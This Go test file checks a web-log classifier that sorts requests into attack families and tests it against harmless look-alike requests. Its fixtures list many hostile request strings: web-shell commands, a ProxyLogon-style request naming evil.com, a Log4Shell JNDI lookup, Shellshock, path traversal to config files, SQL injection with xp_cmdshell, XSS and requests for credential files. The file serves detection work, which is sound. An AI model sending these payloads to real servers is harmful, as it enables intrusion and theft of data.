package codes

import (
	"bufio"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// attack returns the name of the attack family of a request, "" for none. The
// request is written as for family.
func (f *Families) attack(request string) string {
	method, path, query, agent := parts(request)
	family, found := f.MatchAttack(method, path, query, agent)
	if !found {
		family = None
	}
	return f.Name(family)
}

func TestVerdictsOfFamilies(t *testing.T) {
	families := OpenFamilies()
	var automatic, attacks []string
	for i := range families.Count() {
		if families.Name(i) == "own-services" {
			continue // never returned
		}
		switch families.Verdict(i) {
		case Automatic:
			automatic = append(automatic, families.Name(i))
		default:
			assert.Equal(t, Probe, families.Verdict(i), families.Name(i))
		}
		if families.IsAttack(i) {
			attacks = append(attacks, families.Name(i))
			assert.Equal(t, Probe, families.Verdict(i), families.Name(i))
		}
	}
	assert.Equal(t, []string{"browser-files", "webdav-discovery", "windows-discovery"}, automatic)
	assert.Equal(t, []string{"backup-files", "secret-files", "microsoft-exploits", "product-exploits", "upload-handlers", "web-shells", "injection"}, attacks)
	for _, none := range []int{None, families.Count()} {
		assert.Equal(t, Probe, families.Verdict(none))
		assert.False(t, families.IsAttack(none))
	}
}

// What families are can be said in a site's own table, of new families and of
// built-in ones.
func TestAddSaysWhatFamiliesAre(t *testing.T) {
	families := OpenFamilies()
	require.NoError(t, families.Add("own.tsv", strings.NewReader("family\tkind\tpattern\n"+
		"health-checks\tis\tautomatic\nhealth-checks\tpath\t/health\nour-holes\tis\tattack\nour-holes\tpath\t/old-upload.aspx\n"+
		"plain\tpath\t/plain\nour-php\tis\town\nour-php\tpath\t/app/*\niis-pages\tis\tattack\nsecret-files\tis\tprobe\n")))
	verdict := func(request string) Verdict {
		family, _ := families.Match(parts(request))
		return families.Verdict(family)
	}
	assert.Equal(t, Automatic, verdict("/health"))
	assert.Equal(t, Probe, verdict("/plain"))
	assert.Empty(t, families.family("/app/index.php"), "the site's own")
	assert.Equal(t, "php-probes", families.family("/index.php"))
	assert.Equal(t, "our-holes", families.attack("/old-upload.aspx"))
	assert.Equal(t, "iis-pages", families.attack("/trace.axd"))
	assert.Empty(t, families.attack("/plain"))
	assert.Empty(t, families.attack("/.env"), "no attack any more")
	assert.Equal(t, "secret-files", families.family("/.env"))

	err := families.Add("own.tsv", strings.NewReader("family\tkind\tpattern\nx\tis\tnoise\n"))
	assert.EqualError(t, err, `own.tsv:2: expected a pattern of kind is, such as automatic, probe, attack, stranger, page or own, found "noise"`)
	err = families.Add("own.tsv", strings.NewReader("family\tkind\tpattern\nx\tcode\tunion\n"))
	assert.EqualError(t, err, `own.tsv:2: expected a pattern of kind code, such as order+by+#--, found "union"`)
}

// Attacks are told from what else is served.
func TestAttacksAreKnown(t *testing.T) {
	families := OpenFamilies()
	f := func(family string, requests ...string) {
		t.Helper()
		for _, r := range requests {
			assert.Equal(t, family, families.attack(r), r)
		}
	}
	f("web-shells", "POST /aspnet_client/shell.aspx?cmd=whoami -", "POST /owa/auth/help.aspx?cmd=dir -", "/owa/auth/Current/one.aspx", "/aspnet_client/system_web/log.aspx",
		"/uploads/cmd.aspx", "/x.aspx?cmd=whoami", "/images/a.ashx?cmd=net%20user", "POST /aspnet_client/supp0rt.aspx -", "POST /owa/auth/RedirSuiteServiceProxy.aspx -")
	f("microsoft-exploits", "/autodiscover/autodiscover.json?@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@evil.com", "POST /ecp/proxyLogon.ecp -", "POST /ecp/y.js -",
		"POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx -", "POST /_layouts/16/ToolPane.aspx?DisplayMode=Edit&foo=/ToolPane.aspx -", "/_layouts/15/spinstall0.aspx", "/_layouts/16/spinstall9.aspx")
	f("product-exploits", "POST /moveitisapi/moveitisapi.dll?action=m2 -", "/human2.aspx", "/fckeditor/editor/filemanager/connectors/test.html", "POST /documentum/upload.aspx?parentid=x&raw=1&unzip=on -", "/SetupWizard.aspx/anything", "/ScreenConnect/SetupWizard.aspx/x")
	f("secret-files", "/.env", "/api/.env.bak", "/.git/HEAD", "/.git/config", "/web.config", "/.aws/credentials", "/certs/site.pfx", "/id_rsa", "/config/secrets.json", "/App_Data/shop.mdb", "/shop/app_data/users.xml", "/wp-config.php.swo", "/blog/wp-config.php~", "/wp-config.bak")
	f("backup-files", "/backup.zip", "/old/backup.zip", "/www.rar", "/wwwroot.zip", "/db/shop.bak", "/dump.sql", "/mail/backup.pst", "/data/crm.mdf")
	f("injection", "/static/..%2f..%2fweb.config%00", "/a.aspx?file=../web.config", "/a.aspx?file=../../App_Data/shop.mdb", "/a.aspx?url=file:///etc/hosts", "/a.aspx?file=../../../../windows/win.ini", "/a.aspx?file=..%5c..%5c..%5cboot.ini", "/a.aspx?f=%252e%252e%252f%252e%252e%252f%252e%252e%252f%252e%252e%252fx",
		"/cgi-bin/.%2e/.%2e/bin/sh", "/scripts/root.exe?/c+dir", "/c/winnt/system32/cmd.exe?/c+dir", "/?x=${jndi:ldap://192.0.2.1/a}", "/?x=%24%7Bjndi:ldap", "GET / ()+{+:;};+/bin/bash+-c+id",
		"/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input")
	// SQL, in the spellings of the tools that send it.
	f("injection", "/i.aspx?id=1+UNION+SELECT+1,2", "/i.aspx?id=1%20union%20all%20select%20null,null", "/i.aspx?id=1/**/union/**/select/**/7", "/i.aspx?id=1%09union%09select%0933,44",
		"/i.aspx?id=(select+198766*667891)", "/i.aspx?id=(select(0)from(select(sleep(15)))v)", "/i.aspx?id=1'+AND+2*3*8=6*8+AND+'a'='a", "/i.aspx?id=-1%27+OR+3*2*1%3D6+--+", "/i.aspx?id=1'+or+'1'='1",
		"/i.aspx?id=1%2527+or+%25271%2527%253D%25271", "/i.aspx?id=@@version", "/i.aspx?id=1+and+1=(select+@@version)", "/i.aspx?id=convert(int,@@version)", "/i.aspx?id=1+order+by+10--", "/i.aspx?id=1%27+ORDER+BY+3%23",
		"/i.aspx?id=char(60)%2bchar(58)", "/i.aspx?id=1+union+select+char(113)", "/i.aspx?id=1;declare+@c+cursor;", "/i.aspx?id=1;DECLARE%20@S%20VARCHAR(4000)", "/i.aspx?id=1;exec+xp_cmdshell+'dir'",
		"/i.aspx?id=1;exec+master..xp_cmdshell('whoami')", "/i.aspx?id=1';waitfor+delay+'0:0:5'--", "/i.aspx?id=1+and+sleep(5)", "/i.aspx?id=1+and+benchmark(5000000,md5(1))", "/i.aspx?id=1+or+1=1--",
		"/product/1'+and+'5'='5", "/i.aspx?id=1;drop+table+users")
	// Commands, script, code.
	f("injection", "/i.aspx?host=127.0.0.1|whoami", "/i.aspx?host=127.0.0.1%7Cwhoami", "/i.aspx?host=;whoami", "/i.aspx?x=%3C%3Fphp+system('id')", "/i.aspx?x=<?php", "/i.aspx?x=powershell+-enc+AAAA",
		"/s.aspx?q=<script>alert(1)</script>", "/s.aspx?q=%22%3E%3Cscript%3Ealert(document.cookie)", "/s.aspx?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "/s.aspx?q={{7*7}}")
	// Who gives a name of his own is an attacker all the same.
	f("injection", "GET /i.aspx?id=1+union+select+1 sqlmap/1.7")
}

// Pages and visitors that use the same words are none, whether they were served or
// found nothing.
func TestHealthyRequestsAreNoAttacks(t *testing.T) {
	families := OpenFamilies()
	for _, r := range []string{
		"/search.aspx?q=union+of+workers", "/search.aspx?q=european+union+select+committee", "/search.aspx?q=select+a+union+rep", "/docs/backup-policy.pdf", "/downloads/my-backup.pdf", "/help/environment.html",
		"/search.aspx?q=order+by+10+pieces", "/list.aspx?orderby=10", "/list.aspx?sort=order+by+name", "/search.aspx?q=what+is+@@version+in+sql", "/search.aspx?q=sql+server+version", "/search.aspx?q=varchar(60)", "/search.aspx?q=nvarchar(60),varchar(60)",
		"/search.aspx?q=declare+a+cursor+in+sql", "/search.aspx?q=how+to+declare+@variable", "/search.aspx?q=enable+xp_cmdshell", "/search.aspx?q=whoami+command", "/search.aspx?q=php+manual", "/search.aspx?q=what+is+php?+and+why",
		"/search.aspx?q=6%27+ladder", "/search.aspx?q=o%27neill", "/search.aspx?q=rock+%27n%27+roll", "/item.aspx?height=6%27&width=3%27", "/calc.aspx?f=198766*667891", "/search.aspx?q=select+2*3", "/search.aspx?q=2*3*8",
		"/search.aspx?q=script+for+a+movie", "/search.aspx?q=alert+someone", "/search.aspx?q=thread.sleep(1000)", "/search.aspx?q=waitfor+delay+in+sql", "/search.aspx?q=drop+table+lamp", "/search.aspx?q=benchmark(cpu)",
		"/arcgis/rest/services/a/MapServer/0/query?where=1%3D1&outFields=*", "/arcgis/rest/services/a/MapServer/0/query?where=STATE+%3D+%27CA%27&f=json",
		"/odata/Orders?$filter=Name+eq+%27O%27%27Neil%27+and+Total+gt+5&$orderby=Id+desc", "/odata/Orders?$filter=Id+eq+5+or+Id+eq+6", "/a.aspx?ReturnUrl=..%2fdefault.aspx", "/a.aspx?ReturnUrl=%2fapp%2fb.aspx%3fx%3d1",
		"/thumb.ashx?src=../../../images/p1.jpg&w=200", "/thumb.ashx?src=..%5c..%5c..%5cimages%5cp1.jpg", "/owa/redir.aspx?C=1&URL=file:///%5c%5cfs1%5cplans%5ca.docx", "/share/docs/.DS_Store",
		"/_layouts/15/start.aspx#/Lists/a", "/_layouts/15/ToolPane.aspx", "/owa/auth/logon.aspx?url=https%3a%2f%2fmail.example.com%2fowa%2f", "/owa/auth/errorFE.aspx?httpCode=500", "/owa/auth/logoff.aspx?Cmd=logoff", "/owa/auth/expiredpassword.aspx", "/owa/auth/signout.aspx",
		"/autodiscover/autodiscover.json?Email=a@example.com&Protocol=ActiveSync&RedirectCount=1", "/autodiscover/autodiscover.json/v1.0/a%40example.com?Protocol=Ews", "/ecp/default.aspx", "/ecp/UsersGroups/Mailboxes.slab?reqId=1",
		"/aspnet_client/system_web/4_0_30319/WebUIValidation.js", "/Telerik.Web.UI.WebResource.axd?type=rau", "/ckfinder/ckfinder.html", "/human.aspx", "/app_data_sheet.aspx", "/SetupWizard.aspx", "/blog/about-wp-config.html", "/shell.html", "/scripts/shell.js", "/app/login.aspx?cmd=login", "/a.aspx?cmd=network",
		"/site/contact.zip", "/downloads/setup.zip", "/files/site-plan.zip", "/Dockerfile", "/app/appsettings.json", "/favicon.ico", "/robots.txt", "/wp-login.php", "/admin/", "/search.aspx?q=50%25+off+%26+more", "/search.aspx?q=c%2B%2B+%26%26+c%23",
		"/search.aspx?q=(select+one)", "/a.aspx?x=%7B%22a%22%3A1%7D", "/a.aspx?filter=%7B%7D&b=%3Cb%3E", "/search.aspx?q=me+and+you=us", "/search.aspx?q=price+%3C+100+or+size+%3E+5", "/a.aspx?t=2026-11-29+10:00:00--x",
		"/bundles/jquery?v=JVBM4Dk7eZ'or", "/a.aspx?type=Large+(1)", "/a.aspx?name=D%27Angelo", "/a.aspx?names='a','b'", "/a.aspx?ids='1','2'", "/a.aspx?q=it's+10",
	} {
		if family, ok := families.MatchAttack(parts(r)); ok {
			assert.True(t, families.IsOfStrangers(family), r) // of nobody else
		}
	}
	for _, r := range []string{ // by their words no noise either, had they found nothing
		"/search.aspx?q=union+of+workers", "/search.aspx?q=european+union+select+committee", "/docs/backup-policy.pdf", "/search.aspx?q=order+by+10+pieces", "/search.aspx?q=what+is+@@version+in+sql",
		"/search.aspx?q=varchar(60)", "/search.aspx?q=declare+a+cursor+in+sql", "/search.aspx?q=enable+xp_cmdshell", "/search.aspx?q=whoami+command", "/search.aspx?q=php+manual", "/search.aspx?q=6%27+ladder",
		"/search.aspx?q=select+2*3", "/search.aspx?q=thread.sleep(1000)", "SSTP_DUPLEX_POST /sra_{BA195980-CD49-458b-9E23-C84EE0ADCD75}/ -",
	} {
		assert.Empty(t, families.family(r), r)
	}
}

// Published logs of healthy sites hold no attack that was served, but for those
// whose story is one.
func TestNoAttackOnPublishedLogs(t *testing.T) {
	families, root := OpenFamilies(), filepath.Join("..", "..", "shared", "corpora")
	if _, err := os.Stat(root); err != nil {
		t.Skipf("%s is not beside the project, so there are no published logs to read", root)
	}
	rows := 0
	require.NoError(t, filepath.WalkDir(root, func(name string, entry fs.DirEntry, err error) error {
		if err != nil || !strings.HasSuffix(name, ".log") {
			return err
		}
		rows += servedRows(t, name, func(line int, method, path, query, agent string) {
			family, found := families.MatchAttack([]byte(method), []byte(path), []byte(query), []byte(agent))
			assert.False(t, found, "%s:%d: %s %s?%s is %s", name, line, method, path, query, families.Name(family))
		})
		return nil
	}))
	assert.Greater(t, rows, 500)
}

// servedRows calls f for each row of a W3C log with a status of 2xx or 3xx and
// returns their number.
func servedRows(t *testing.T, name string, f func(line int, method, path, query, agent string)) (rows int) {
	file, err := os.Open(name)
	require.NoError(t, err)
	defer file.Close()
	at := map[string]int{}
	lines := bufio.NewScanner(file)
	lines.Buffer(nil, 1<<20)
	for line := 1; lines.Scan(); line++ {
		text := strings.TrimRight(lines.Text(), "\r")
		if names, ok := strings.CutPrefix(text, "#Fields: "); ok {
			clear(at)
			for i, column := range strings.Fields(names) {
				at[column] = i + 1
			}
		}
		cells := strings.Split(text, " ")
		field := func(column string) string {
			if i := at[column]; i > 0 && i <= len(cells) {
				return cells[i-1]
			}
			return "-"
		}
		if status := field("sc-status"); !strings.HasPrefix(text, "#") && (status[0] == '2' || status[0] == '3') {
			f(line, field("cs-method"), field("cs-uri-stem"), field("cs-uri-query"), field("cs(User-Agent)"))
			rows++
		}
	}
	return rows
}

func TestPlainForm(t *testing.T) {
	for field, want := range map[string]string{
		"":                                "",
		"-":                               "-",
		"id=12345&x=7":                    "id=#&x=#",
		"a%20b++c%09d e":                  "a+b+c+d+e",
		"1/**/union/**//**/select":        "#+union+select",
		"/**/x":                           "+x",
		"/*x*/":                           "/*x*/",
		"%27%2527%252527":                 "'''",
		"50%25+off":                       "#%+off",
		"%":                               "%",
		"%2":                              "%#",
		"%zz%4":                           "%zz%#",
		"%2e%2E/":                         "../",
		"%251%252":                        "%#%#",
		"%31%32":                          "#",
		strings.Repeat("a", fieldLimit+9): strings.Repeat("a", fieldLimit),
	} {
		assert.Equal(t, want, string(appendPlain(nil, []byte(field))), field)
	}
}

func BenchmarkMatchAttack(b *testing.B) {
	families := OpenFamilies()
	method, path, query, agent := usual()
	families.Prepare()
	b.ReportAllocs()
	for b.Loop() {
		families.MatchAttack(method, path, query, agent)
	}
}

// On these ports Windows answers devices of the local network, whatever they ask.
func TestMatchPort(t *testing.T) {
	families := OpenFamilies()
	for _, port := range []int{2869, 5357, 5358} {
		family, ok := families.MatchPort(port)
		assert.True(t, ok, port)
		assert.Equal(t, "windows-discovery", families.Name(family))
		assert.Equal(t, Automatic, families.Verdict(family))
	}
	for _, port := range []int{0, 80, 443, 8080, None} {
		family, ok := families.MatchPort(port)
		assert.False(t, ok, port)
		assert.Equal(t, None, family)
	}
	require.NoError(t, families.Add("own.tsv", strings.NewReader("family\tkind\tpattern\nprobes\tis\tautomatic\nprobes\tport\t8081\nwindows-discovery\toff\t-\n")))
	family, ok := families.MatchPort(8081)
	assert.True(t, ok)
	assert.Equal(t, "probes", families.Name(family))
	_, ok = families.MatchPort(5357)
	assert.False(t, ok, "switched off")
	_, ok = new(Families).MatchPort(5357)
	assert.False(t, ok)
}
